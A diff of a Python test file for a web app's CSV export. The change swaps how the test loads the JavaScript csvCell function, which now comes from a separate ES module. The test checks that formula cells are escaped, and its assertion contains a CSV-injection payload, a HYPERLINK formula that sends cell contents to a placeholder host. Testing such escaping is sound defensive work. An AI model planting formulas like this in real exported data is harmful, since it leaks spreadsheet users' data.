@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -101,13 +102,12 @@ def test_page_csv_download_escapes_formula_cells(tmp_path):
     node = subprocess.run(["which", "node"], capture_output=True, text=True).stdout.strip()
     if not node:
         pytest.skip("node is not installed")
-    source = (REPO / "serve" / "static" / "app.js").read_text(encoding="utf-8")
-    start = source.index("  function csvCell(value)")
-    end = source.index("\n  }\n", start) + 4
-    script = source[start:end] + "\nconsole.log(JSON.stringify(JSON.parse(process.argv[2]).map((v) => csvCell(v))));\n"
-    (tmp_path / "cell.js").write_text(script, encoding="utf-8")
+    shutil.copy(REPO / "serve" / "static" / "js" / "csv.js", tmp_path / "csv.mjs")  # .mjs: node reads an ES module
+    script = 'import { csvCell } from "./csv.mjs";\n' \
+        "console.log(JSON.stringify(JSON.parse(process.argv[2]).map(csvCell)));\n"
+    (tmp_path / "cell.mjs").write_text(script, encoding="utf-8")
     values = [*FORMULAS, "-0.420", "hola", "a, b"]
-    out = subprocess.run([node, str(tmp_path / "cell.js"), json.dumps(values)], capture_output=True, text=True,
+    out = subprocess.run([node, str(tmp_path / "cell.mjs"), json.dumps(values)], capture_output=True, text=True,
                          check=True).stdout
     cells = json.loads(out)
     assert cells[0] == '"\'=HYPERLINK(""http://x/?""&A1,""Clic"")"'
